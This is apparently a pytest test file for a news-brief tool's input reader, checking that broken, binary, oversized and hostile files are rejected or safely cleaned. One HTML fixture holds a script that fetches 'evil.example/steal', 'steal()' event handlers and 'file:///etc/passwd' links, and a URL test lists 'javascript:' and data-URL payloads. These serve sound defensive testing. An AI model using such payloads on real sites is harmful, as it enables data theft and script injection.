"""read_inputs on hostile and broken inputs: a one-line Rejection or safe processing, never an exception."""

from __future__ import annotations

import io
import json
import os
import socket
import time
import urllib.request

import pytest

from briefgen.ingest import read_inputs
from briefgen.model import Article, Rejection

SENTENCES = (
    "Le ministre a déclaré à la presse que la situation à Genève était très préoccupante.\n"
    "Les élèves ont été évacués vers l'école voisine, a précisé la mairie.\n"
)


def read_one(path, **options):
    results = list(read_inputs([str(path)], **options))
    assert len(results) == 1
    return results[0]


def assert_rejected(result, reason_start):
    assert isinstance(result, Rejection)
    assert result.reason.startswith(reason_start), result.reason
    assert "\n" not in result.reason


@pytest.mark.parametrize(("content", "reason"), [
    (b"", "empty file"),
    (b"  \n\t\r\n  ", "empty file (only whitespace)"),
    (b"\xff\xfe" + " \n ".encode("utf-16-le"), "empty file (only whitespace)"),
    (b"Share\nLeave a Comment\n", "no article text found"),
])
def test_empty_and_whitespace_files(tmp_path, content, reason):
    path = tmp_path / "empty.txt"
    path.write_bytes(content)
    assert_rejected(read_one(path), reason)


@pytest.mark.parametrize("suffix", [".txt", ".html", ".json", ".md"])
def test_random_bytes_are_binary(tmp_path, suffix):
    path = tmp_path / f"noise{suffix}"
    path.write_bytes(os.urandom(4096))
    assert_rejected(read_one(path), "not text (binary data)")


def test_broken_json(tmp_path):
    path = tmp_path / "broken.json"
    path.write_text('{\n  "text": "Rain fell.",\n  "title" "x"\n}', encoding="utf-8")
    assert_rejected(read_one(path), "broken JSON at line 3: Expecting ':' delimiter")


@pytest.mark.parametrize(("content", "reason"), [
    ('{"title": "no text here"}', 'no article text found (the record has no "text")'),
    ('"just a string"', "not a JSON object (found str)"),
    ("[" * 100_000, "broken JSON"),
])
def test_unusable_json_values(tmp_path, content, reason):
    path = tmp_path / "odd.json"
    path.write_text(content, encoding="utf-8")
    assert_rejected(read_one(path), reason)


def test_jsonl_bad_line_rejected_alone(tmp_path):
    path = tmp_path / "feed.jsonl"
    good = json.dumps({"id": "ok", "text": "Rescue teams reached the village on Monday, officials said."})
    path.write_text(f"{good}\n{{\"text\": broken\n{json.dumps({'id': 'ok2', 'text': 'Roads reopened on Tuesday.'})}\n",
                    encoding="utf-8")
    results = list(read_inputs([str(path)]))
    assert [type(r).__name__ for r in results] == ["Article", "Rejection", "Article"]
    assert results[1].source == f"{path}:2"
    assert_rejected(results[1], "broken JSON at line 2:")


def test_30_mb_file_rejected_by_size_fast(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as file:  # sparse: seek past the end, nothing is really written
        file.truncate(30 * 1024 * 1024)
    started = time.perf_counter()
    result = read_one(path)
    assert time.perf_counter() - started < 0.5
    assert_rejected(result, "larger than the 5 MB limit (31.5 MB); raise --max-bytes")


def test_stdin_read_at_most_max_bytes():
    stream = io.BytesIO(b"a" * 2000)
    assert_rejected(read_one("-", max_bytes=1000, stdin=stream), "larger than the 1 kB limit; raise --max-bytes")
    assert stream.tell() == 1001


def test_html_nested_20000_levels(tmp_path):
    path = tmp_path / "deep.html"
    path.write_text("<html><body>" + "<div>" * 20_000 + "<p>Deep text.</p>" + "</div>" * 20_000 + "</body></html>")
    result = read_one(path)
    assert isinstance(result, (Article, Rejection))
    if isinstance(result, Rejection):
        assert_rejected(result, "no article text found")


def test_json_record_with_deeply_nested_html_body(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text(json.dumps({"text": "<div>" * 20_000 + "Deep text." + "</div>" * 20_000}), encoding="utf-8")
    result = read_one(path)
    assert isinstance(result, (Article, Rejection))
    if isinstance(result, Article):
        assert "<" not in result.text


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("ingest tried to use the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)


def test_hostile_html_gives_text_only_and_fetches_nothing(tmp_path, no_network):
    page = """<html><head><title>Storm damage</title><script>fetch('https://evil.example/steal')</script>
    <style>p { color: red }</style><link rel="stylesheet" href="file:///etc/passwd"></head>
    <body onload="steal()"><article>
    <p onclick="steal()">The storm damaged more than forty homes in the hill district on Sunday, police said.</p>
    <iframe src="https://evil.example/frame">Frame text</iframe><img src="file:///etc/passwd" onerror="steal()">
    <p>Engineers began repairing the power lines on Monday and expect to finish by Friday, the utility said.</p>
    <script>document.write("<b>injected</b>")</script>
    </article></body></html>"""
    path = tmp_path / "hostile.html"
    path.write_text(page, encoding="utf-8")
    article = read_one(path)
    assert isinstance(article, Article)
    assert "forty homes" in article.text and "power lines" in article.text
    for markup in ("<", "steal", "evil.example", "injected", "color: red", "passwd", "Frame text"):
        assert markup not in article.text


@pytest.mark.parametrize(("url", "kept"), [
    ("https://example.org/a?b=1", True),
    ("HTTP://EXAMPLE.ORG/", True),
    ("javascript:alert(1)", False),
    ("JavaScript:alert(1)", False),
    ("file:///etc/passwd", False),
    ("data:text/html,<script>x</script>", False),
    ("http://[::1", False),
    ("https:///no-host", False),
    ("not a url", False),
])
def test_only_web_urls_are_kept(tmp_path, url, kept):
    path = tmp_path / "link.json"
    path.write_text(json.dumps({"text": "Rain fell on Monday, officials said.", "url": url}), encoding="utf-8")
    assert read_one(path).url == (url if kept else None)


def test_markdown_with_jinja_syntax_is_literal(tmp_path):
    text = "# Templates\n\nThe page showed {{ x }} and {% raw %}{{ y }}{% endraw %} instead of the figures, staff said.\n"
    path = tmp_path / "jinja.md"
    path.write_text(text, encoding="utf-8")
    article = read_one(path)
    assert article.text == "The page showed {{ x }} and {% raw %}{{ y }}{% endraw %} instead of the figures, staff said."


def test_literal_script_text_in_a_text_file_stays_text(tmp_path):
    path = tmp_path / "code.txt"
    path.write_text('The attacker posted "<script>alert(1)</script>" on the forum, investigators said.', encoding="utf-8")
    assert "<script>alert(1)</script>" in read_one(path).text


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16", "utf-16-be", "utf-8-sig", "utf-32"])
def test_encodings_decoded_right(tmp_path, encoding):
    path = tmp_path / "french.txt"
    path.write_bytes(SENTENCES.encode(encoding))
    assert read_one(path).text == SENTENCES.strip().replace("\n", "\n\n")


@pytest.mark.parametrize(("declaration", "encoding"), [
    ('<meta charset="windows-1252">', "cp1252"),
    ('<meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1">', "cp1252"),
    ('<meta charset="koi8-r">', "koi8-r"),
    ('<meta charset="zlib">', "utf-8"),
    ('<meta charset="no-such-charset">', "utf-8"),
])
def test_html_declared_charset(tmp_path, declaration, encoding):
    sentence = {"koi8-r": "Жители сообщили о сильном наводнении в долине во вторник, заявили власти."}.get(
        encoding, "Café owners in Zürich said on Monday the “naïve” plan would fail, officials said.")
    page = f"<html><head>{declaration}<title>News</title></head><body><article><p>{sentence}</p></article></body></html>"
    path = tmp_path / "page.html"
    path.write_bytes(page.encode(encoding))
    assert read_one(path).text == sentence


def test_short_latin1_english_text(tmp_path):
    path = tmp_path / "cafe.txt"
    path.write_bytes("Café owners in Zürich said the naïve plan would fail.".encode("latin-1"))
    assert read_one(path).text == "Café owners in Zürich said the naïve plan would fail."


def test_control_characters_stripped(tmp_path):
    path = tmp_path / "controls.txt"
    path.write_bytes(b"Police\x1b[31m said\x07 the road was closed.\r\nIt reopened.\r\n")
    assert read_one(path).text == "Police[31m said the road was closed.\n\nIt reopened."


@pytest.mark.parametrize(("name", "reason"), [
    ("data.xyz", "unsupported file type .xyz"),
    ("README", "unsupported file type (no extension)"),
])
def test_unsupported_file_type(tmp_path, name, reason):
    path = tmp_path / name
    path.write_text("Some text.", encoding="utf-8")
    assert_rejected(read_one(path), reason)


def test_missing_path_and_empty_directory(tmp_path):
    assert_rejected(read_one(tmp_path / "nope.txt"), "no such file or directory")
    (tmp_path / "empty").mkdir()
    assert_rejected(read_one(tmp_path / "empty"), "no supported files in this directory")


def test_device_is_not_read():
    assert_rejected(read_one("/dev/zero"), "not a regular file")


def test_stdin_binary_and_empty():
    assert_rejected(read_one("-", stdin=io.BytesIO(b"")), "empty input")
    assert_rejected(read_one("-", stdin=io.BytesIO(b"\x00\x01\x02\xff" * 100)), "not text (binary data)")


def test_a_reader_bug_rejects_that_input_only(tmp_path, monkeypatch):
    from briefgen.ingest import formats

    def broken_reader(text, source, stem):
        raise KeyError("surprise\nsecond line")

    monkeypatch.setitem(formats.READERS, ".txt", broken_reader)
    (tmp_path / "a.txt").write_text("Rain fell.", encoding="utf-8")
    (tmp_path / "b.md").write_text("Rain fell on Monday.", encoding="utf-8")
    first, second = read_inputs([str(tmp_path)])
    assert_rejected(first, "could not be read (KeyError:")
    assert isinstance(second, Article)
